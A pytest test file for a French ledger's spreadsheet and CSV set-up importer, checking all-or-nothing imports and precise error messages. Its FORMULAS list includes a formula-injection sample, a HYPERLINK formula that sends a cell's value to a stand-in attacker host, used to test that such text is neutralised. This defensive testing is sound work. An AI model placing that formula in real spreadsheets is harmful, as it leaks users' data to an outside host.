"""A set-up file is imported whole or not at all: every rule the ledger would check
is checked before anything is written (generated: one invalid cell anywhere in a
valid file); what the plan cannot foresee stops the import naming the row and what
was already written; text that looks like a formula stays text."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ledger.app import Ledger
from ledger.core import Caller
from setupfile.importer import ImportInterrupted, apply, plan_file
from setupfile.sheets import BY_NAME, FileRefused, read, write_csv, write_xlsx
from tests.damaged_files import cut_sheets
from tests.setupfile.test_import import ADMIN, ROWS, imported

REASON = Caller(actor="admin", reason="test")


def csv_dir(path: Path, files: dict[str, str]) -> Path:
    path.mkdir()
    for name, body in files.items():
        (path / f"{name}.csv").write_text(body, encoding="utf-8")
    return path


def issues(plan: object) -> list[tuple[str, int, str]]:
    return [(e.sheet, e.row, e.column) for e in plan.errors]  # type: ignore[attr-defined]


def test_the_reviewers_file_is_refused_whole_each_error_named(
    ledger: Ledger, tmp_path: Path
) -> None:
    imported(ledger, _xlsx(tmp_path, ROWS))
    ledger.define_plan(ADMIN, "SDSI", "Ville", 2026, 2030)
    folder = csv_dir(
        tmp_path / "csv",
        {
            "poles": "code;nom\nPX1;Pôle X1\n",
            "capacites": "equipe;annee;jours\nDSI-APP;2099;10\n",
            "comptes": "identifiant;nom;courriel;roles\nsystem;Sys;;admin\nannuaire;Annuaire;;\n",
        },
    )
    head = ledger.head()
    plan = plan_file(ledger, folder)
    assert plan.lines() == [
        "capacites, ligne 2, colonne annee : L'année 2099 est hors de l'horizon du "
        "plan (2026–2030).",
        "comptes, ligne 2, colonne identifiant : Valeur invalide pour « identifiant » : "
        "'system' (identifiant réservé au registre).",
        "comptes, ligne 3, colonne identifiant : Valeur invalide pour « identifiant » : "
        "'annuaire' (identifiant réservé au registre).",
    ]
    assert plan.actions == []
    assert ledger.head() == head


def test_a_refusal_the_plan_did_not_foresee_names_the_row_and_what_was_written(
    ledger: Ledger, tmp_path: Path
) -> None:
    """Planned before the plan's horizon existed, applied after: the pôle is
    written, the capacity refused, and the message says so."""
    imported(ledger, _xlsx(tmp_path, ROWS))
    folder = csv_dir(
        tmp_path / "csv",
        {
            "poles": "code;nom\nPX1;Pôle X1\n",
            "capacites": "equipe;annee;jours\nDSI-APP;2099;10\n",
        },
    )
    plan = plan_file(ledger, folder)
    assert plan.ok, plan.lines()
    ledger.define_plan(ADMIN, "SDSI", "Ville", 2026, 2030)
    with pytest.raises(ImportInterrupted) as caught:
        apply(ledger, plan, ADMIN)
    assert caught.value.lines() == [
        "capacites, ligne 2, colonne annee : L'année 2099 est hors de l'horizon du "
        "plan (2026–2030). (refusé par le registre)",
        "1 commande(s) déjà écrite(s) :",
        "  poles, ligne 2 : crée le pôle PX1",
        "corrigez le fichier et importez-le à nouveau : l'import reprend là où il "
        "s'est arrêté",
    ]


def test_a_target_given_twice_with_two_values_is_an_error_naming_both_rows(
    ledger: Ledger, tmp_path: Path
) -> None:
    rows = {
        **ROWS,
        "indicateurs": [
            *ROWS["indicateurs"],
            ["IZ1", "A1", "Ind Z", "%", "1", "80", "2033"],
        ],
        "cibles": [*ROWS["cibles"], ["IZ1", "2033", "90"]],
    }
    plan = plan_file(ledger, _xlsx(tmp_path, rows))
    assert [str(e) for e in plan.errors] == [
        "cibles, ligne 3, colonne valeur : la cible de IZ1 en 2033 est déjà fixée à 80 "
        "par la feuille indicateurs, ligne 3 : une seule valeur par année"
    ]
    same = {**rows, "cibles": [*ROWS["cibles"], ["IZ1", "2033", "80"]]}
    imported(ledger, _xlsx(tmp_path, same))
    head = ledger.head()
    assert imported(ledger, _xlsx(tmp_path, same)) == 0
    assert ledger.head() == head


def test_a_disabled_account_a_changed_e_mail_and_a_repeated_role_are_named(
    ledger: Ledger, tmp_path: Path
) -> None:
    imported(ledger, _xlsx(tmp_path, ROWS))
    ledger.disable_user(REASON, "ref.edu")
    rows = {
        **ROWS,
        "comptes": [
            ["dsi.moreau", "Claire Moreau", "autre@ville.fr", "dsi"],
            ["ref.edu", "Léa Martin", "", "referent:EDU, finance"],
            ["nouveau", "Nouveau", "", "dsi, dsi"],
        ],
    }
    plan = plan_file(ledger, _xlsx(tmp_path, rows))
    assert [str(e) for e in plan.errors] == [
        "comptes, ligne 2, colonne courriel : ne peut pas changer par un import "
        "(actuellement c.moreau@ville.fr) : le registre ne modifie pas l'adresse "
        "d'un compte",
        "comptes, ligne 3, colonne roles : le compte ref.edu est désactivé : un import "
        "ne lui attribue pas de rôle",
        "comptes, ligne 4, colonne roles : Valeur invalide pour « roles » : 'dsi' (rôle "
        "répété dans la cellule).",
    ]


def test_cells_beyond_the_header_and_a_repeated_column_are_refused(
    tmp_path: Path,
) -> None:
    folder = csv_dir(
        tmp_path / "csv",
        {
            "poles": "code;nom\nPRS;Ressources;oublié\n",
            "axes": "code;libelle;libelle\nA1;x;y\n",
        },
    )
    _rows, found = read(folder)
    assert [str(i) for i in found] == [
        "poles, ligne 2 : cellule remplie hors des colonnes de l'en-tête (colonne n° 3)",
        "axes, ligne 1, colonne libelle : colonne en double",
    ]


def test_a_csv_not_in_utf8_is_refused_in_one_line_naming_it(tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "poles.csv").write_bytes("code;nom\nPRS;P\xf4le\n".encode("cp1252"))
    with pytest.raises(FileRefused) as caught:
        read(folder)
    assert str(caught.value) == (
        "csv/poles.csv : le fichier n'est pas en UTF-8 (enregistrez-le en « CSV UTF-8 »)"
    )


def test_a_file_that_is_not_xlsx_is_named_in_french(tmp_path: Path) -> None:
    (tmp_path / "e8552a.xlsx").write_text("pas un classeur")
    with pytest.raises(FileRefused) as caught:
        read(tmp_path / "e8552a.xlsx", source="mon fichier.xlsx")
    assert str(caught.value) == (
        "mon fichier.xlsx : ce n'est pas un classeur XLSX lisible (attendu : le modèle "
        "XLSX rempli, ou un dossier de fichiers CSV en ligne de commande)"
    )


def test_a_csv_cell_past_the_reader_s_limit_is_refused_naming_the_file(
    tmp_path: Path,
) -> None:
    folder = csv_dir(tmp_path / "csv", {"poles": "code;nom\nPRS;" + "P" * 200_000})
    with pytest.raises(FileRefused) as caught:
        read(folder)
    assert str(caught.value) == (
        "csv/poles.csv : CSV illisible (field larger than field limit (131072))"
    )


def test_a_damaged_sheet_is_refused_naming_it(tmp_path: Path) -> None:
    whole = tmp_path / "whole.xlsx"
    write_xlsx(whole, {"poles": [["PRS", "Pôle"]]})
    damaged = tmp_path / "damaged.xlsx"
    damaged.write_bytes(cut_sheets(whole.read_bytes()))
    with pytest.raises(FileRefused) as caught:
        read(damaged, source="setup.xlsx")
    assert str(caught.value).startswith("setup.xlsx, feuille ")
    assert str(caught.value).endswith(" : feuille illisible (fichier endommagé)")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1',
    "@SUM(A1)",
    "+33 1 23",
    "-moins",
    "'=déjà cité",
    "''@deux",
    "l'apostrophe",
]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back_exactly(
    tmp_path: Path, fmt: str
) -> None:
    rows = {"poles": [[f"P{i}", v] for i, v in enumerate(FORMULAS)]}
    path = tmp_path / ("t.xlsx" if fmt == "xlsx" else "t")
    (write_xlsx if fmt == "xlsx" else write_csv)(path, rows)
    if fmt == "xlsx":
        sheet = load_workbook(path)["poles"]
        assert {c.data_type for row in sheet.iter_rows(min_row=2) for c in row} == {"s"}
    else:
        raw = (path / "poles.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
        assert [line.split(";", 1)[1] for line in raw][:4] == [
            '"\'=HYPERLINK(""http://evil.example/?x=""&A1"',
            "'@SUM(A1)",
            "'+33 1 23",
            "'-moins",
        ]
    read_back, found = read(path)
    assert found == []
    assert [r.cells["nom"] for r in read_back["poles"]] == FORMULAS


# --- generated: one invalid cell anywhere in a valid file ------------------------------

INVALID: dict[str, list[str]] = {
    "code": ["", "a b", "x" * 41, "é"],
    "nom": ["", "x" * 201],
    "libelle": ["", "x" * 201],
    "pole": ["", "NOPE"],
    "direction": ["NOPE", "a b"],
    "entite": ["NOPE", "a b"],
    "type": ["", "autre"],
    "equipe": ["", "NOPE"],
    "annee": ["", "abc", "1999", "2101", "20.5"],
    "jours": ["", "-5", "abc", "100001", "1.5"],
    "description": ["x" * 2001],
    "axe": ["", "NOPE"],
    "unite": ["", "x" * 41],
    "base": ["", "abc", "1e3"],
    "cible": ["", "abc", "1e3"],
    "annee_cible": ["", "abc", "1999"],
    "indicateur": ["", "NOPE"],
    "valeur": ["", "abc"],
    "identifiant": ["", "system", "annuaire", "A B"],
    "courriel": ["pas-une-adresse"],
    "roles": ["chef", "referent", "dsi:EDU", "dsi, dsi", "referent:NOPE"],
}
# Years of capacities are bounded by the plan (2026–2030); other years are not.
HORIZON_ONLY = {("capacites", "annee"): ["2025", "2031", "2099"]}

CODES = st.from_regex(r"[A-Z][A-Z0-9]{1,6}", fullmatch=True).filter(lambda c: c not in {"PRS", "PSF", "A1"})  # fmt: skip


@st.composite
def one_wrong_cell(draw: st.DrawFn) -> tuple[dict[str, list[list[str]]], str, int, str]:
    rows = {k: [list(r) for r in v] for k, v in ROWS.items()}
    for extra in draw(st.lists(CODES, max_size=3, unique=True)):  # more valid rows
        rows["poles"].append([f"P{extra}", f"Pôle {extra}"])
        rows["axes"].append([f"X{extra}", f"Axe {extra}", ""])
    sheet = draw(st.sampled_from(sorted(k for k, v in rows.items() if v)))
    index = draw(st.integers(0, len(rows[sheet]) - 1))
    column = draw(st.sampled_from(BY_NAME[sheet].columns))
    choices = INVALID[column] + HORIZON_ONLY.get((sheet, column), [])
    value = draw(st.sampled_from(choices))
    rows[sheet][index][BY_NAME[sheet].columns.index(column)] = value
    return rows, sheet, index + 2, column


@given(case=one_wrong_cell(), fmt=st.sampled_from(["xlsx", "csv"]))
@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
def test_one_invalid_cell_anywhere_refuses_the_file_and_writes_nothing(
    planned_ledger: Ledger,
    tmp_path_factory: pytest.TempPathFactory,
    case: tuple,
    fmt: str,
) -> None:
    rows, sheet, row, column = case
    tmp = tmp_path_factory.mktemp("one-wrong")
    path = tmp / ("f.xlsx" if fmt == "xlsx" else "f")
    (write_xlsx if fmt == "xlsx" else write_csv)(path, rows)
    head = planned_ledger.head()
    plan = plan_file(planned_ledger, path)
    assert not plan.ok, (sheet, row, column)
    assert plan.actions == []
    assert any(e.sheet == sheet for e in plan.errors) or any(
        e.column in ("pole", "direction", "equipe", "axe", "indicateur", "roles")
        for e in plan.errors
    ), plan.lines()
    with pytest.raises(ValueError):
        apply(planned_ledger, plan, ADMIN)
    assert planned_ledger.head() == head


@pytest.fixture
def planned_ledger(ledger: Ledger) -> Ledger:
    """The test ledger with a plan (2026–2030) bounding capacity years."""
    ledger.define_plan(ADMIN, "SDSI", "Ville", 2026, 2030)
    return ledger


def _xlsx(tmp_path: Path, rows: dict[str, list[list[str]]]) -> Path:
    path = tmp_path / f"f{len(list(tmp_path.glob('f*.xlsx')))}.xlsx"
    write_xlsx(path, rows)
    return path


def test_a_caller_not_allowed_every_sheet_is_refused_before_anything_is_written(
    ledger: Ledger, tmp_path: Path
) -> None:
    from domain.errors import NotAllowed

    ledger.add_user(REASON, "dsi.seul", "DSI seul", "un mot de passe solide 42", roles=[("dsi", None)])  # fmt: skip
    plan = plan_file(ledger, _xlsx(tmp_path, ROWS))
    assert plan.ok
    head = ledger.head()
    with pytest.raises(NotAllowed) as caught:
        apply(ledger, plan, Caller(actor="dsi.seul"))
    assert caught.value.message == (
        "dsi.seul n'a pas le droit de modifier par import la feuille comptes (rôles : dsi)."
    )
    assert ledger.head() == head
    no_accounts = {k: v for k, v in ROWS.items() if k != "comptes"}
    assert apply(ledger, plan_file(ledger, _xlsx(tmp_path, no_accounts)), Caller(actor="dsi.seul")) == 12  # fmt: skip
